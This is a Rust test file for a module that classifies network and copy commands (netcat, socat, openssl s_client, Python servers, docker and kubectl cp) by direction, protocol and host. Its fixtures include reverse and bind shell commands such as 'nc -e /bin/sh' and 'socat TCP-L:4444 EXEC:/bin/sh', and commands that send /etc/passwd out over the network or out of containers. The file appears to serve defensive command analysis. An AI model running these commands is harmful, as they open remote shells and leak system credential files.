//! nc, ncat, socat, openssl, servers and copies into containers, by the manuals that their modules name.

use super::{check, words};
use crate::command::understand;

#[test]
fn netcat_is_understood() {
    check(&[
        ("nc", "none"),
        ("nc -h", "none"),
        ("nc h 4444", "both tcp h:4444"),
        ("nc -u h 53", "both udp h:53"),
        ("nc -d h 4444", "in tcp h:4444"),
        ("nc -z db 5432", "none"),
        ("nc -zvw1 db 5432", "none"),
        ("nc -w 3 -q 0 h 4444", "both tcp h:4444"),
        ("nc -U /run/x.sock", "none"),
        ("nc -lvnp 4444", "both tcp listens server"),
        ("nc -l 4444", "both tcp listens server"),
        ("nc -l 127.0.0.1 4444", "both tcp loopback listens server"),
        ("nc -x p:1080 127.0.0.1 80", "both tcp 127.0.0.1:80"),
        ("nc -e /bin/sh h 4444", "both tcp h:4444"),
        ("nc 127.0.0.1 6379", "both tcp 127.0.0.1:6379 loopback"),
        ("nc.openbsd -N h 80", "both tcp h:80"),
        ("nc.traditional -c /bin/sh h 4444", "both tcp h:4444"),
        ("ncat --ssl h 443", "both tls h:443"),
        ("ncat --recv-only h 443", "in tcp h:443"),
        ("ncat --send-only h 443", "out tcp h:443"),
        ("ncat --proxy p:8080 --proxy-type http h 443", "both tcp h:443"),
        ("ncat -lk 4444 --sh-exec 'cat f'", "both tcp listens server"),
        ("ncat --version", "none"),
        ("busybox nc -e /bin/sh h 4444", "both tcp h:4444"),
    ]);
}

#[test]
fn socat_is_understood() {
    check(&[
        ("socat -V", "none"),
        ("socat - TCP:h:4444", "both tcp h:4444 >-"),
        ("socat - OPENSSL:h:443,verify=0", "both tls h:443 >-"),
        ("socat -u FILE:/etc/passwd tcp4:h:80", "out tcp h:80 >/etc/passwd"),
        ("socat -u TCP-CONNECT:h:80 CREATE:/tmp/f", "in tcp h:80 >/tmp/f"),
        ("socat -d -d -U TCP:h:80 OPEN:f,rdonly", "out tcp h:80 >f"),
        ("socat -b 8192 -T5 - UDP6-SENDTO:[2001:db8::1]:53", "both udp 2001:db8::1:53 >-"),
        ("socat -lf log - TCP:h:1", "both tcp h:1 >-"),
        ("socat TCP-LISTEN:80,fork,reuseaddr TCP:h:80", "both tcp h:80 listens server"),
        ("socat TCP-L:4444 EXEC:/bin/sh", "both tcp listens server"),
        (
            "socat TCP-LISTEN:80,bind=127.0.0.1 TCP:127.0.0.1:8080",
            "both tcp 127.0.0.1:8080 loopback listens server",
        ),
        ("socat TCP-LISTEN:80 TCP:localhost:8080", "both tcp localhost:8080 listens server"),
        ("socat - SOCKS4A:127.0.0.1:h:80,socksport=9050", "both socks h:80 >-"),
        ("socat - PROXY:p:h:443,proxyport=3128", "both http h:443 >-"),
        ("socat - UNIX-CONNECT:/run/x.sock", "none"),
        ("socat - TCP:127.0.0.1:80", "both tcp 127.0.0.1:80 >- loopback"),
        ("socat -", "none"),
    ]);
}

#[test]
fn openssl_is_understood() {
    check(&[
        ("openssl rand -hex 8", "nothing"),
        ("openssl", "nothing"),
        ("openssl s_client -quiet -connect h:443", "both tls h:443"),
        ("openssl s_client -connect h:443 -ign_eof -servername x", "both tls h:443"),
        ("openssl s_client -host h -port 443 -quiet", "both tls h:443"),
        ("openssl s_client -quiet h:443", "both tls h:443"),
        ("openssl s_client -connect h:443 -showcerts", "none tls h:443"),
        ("openssl s_client -quiet -connect 127.0.0.1:443 -proxy p:3128", "both tls 127.0.0.1:443"),
        ("openssl s_client -unix /run/x -quiet", "none"),
        ("openssl s_server -quiet -port 443 -key k -cert c", "both tls listens server"),
        ("openssl s_server -WWW -accept 127.0.0.1:443", "out tls loopback listens server"),
    ]);
}

#[test]
fn servers_listen() {
    check(&[
        ("python3 -m http.server", "out http listens server"),
        ("python3 -m http.server 8000 -d /etc --bind 127.0.0.1", "out http >/etc loopback listens server"),
        ("python2 -m SimpleHTTPServer 80", "out http listens server"),
        ("python3 -m uploadserver", "both http listens server"),
        ("python3 -m pyftpdlib -p 21", "out ftp listens server"),
        ("python3 -m pyftpdlib -w", "both ftp listens server"),
        ("python3 -m http.server --help", "none server"),
        ("python3 -m venv x", "nothing"),
    ]);
}

#[test]
fn copies_cross_a_containers_border() {
    check(&[
        ("docker cp f web:/tmp/", "in container ? >f"),
        ("docker cp web:/etc/passwd -", "out container ? >-"),
        ("docker -H tcp://h:2375 container cp -a web:/x ./x", "out container ? >./x"),
        ("docker ps", "nothing"),
        ("docker run web cp a b:c", "nothing"),
        ("podman --log-level debug cp ./a:b web:/tmp", "in container ? >./a:b"),
        ("nerdctl cp a b", "none >a >b"),
        ("kubectl -n prod cp f web-0:/tmp/f -c app", "in kubernetes ? >f"),
        ("kubectl cp prod/web-0:/etc/passwd ./x", "out kubernetes ? >./x"),
        ("kubectl get pods", "nothing"),
        ("oc cp web-0:/x x", "out kubernetes ? >x"),
    ]);
}

/// What else a copy needs is understood too: under the resolved name first.
#[test]
fn the_resolved_name_tells_the_kind() {
    let words = words("nc -c h 443");
    let images = ["/bin/nc.openbsd", "/usr/bin/nc"];
    let command = understand(images.into_iter(), &words).unwrap();
    let transfer = command.transfer.as_ref().unwrap();
    assert_eq!(transfer.remotes.first().and_then(|remote| remote.host.as_deref()), Some("h"));
}
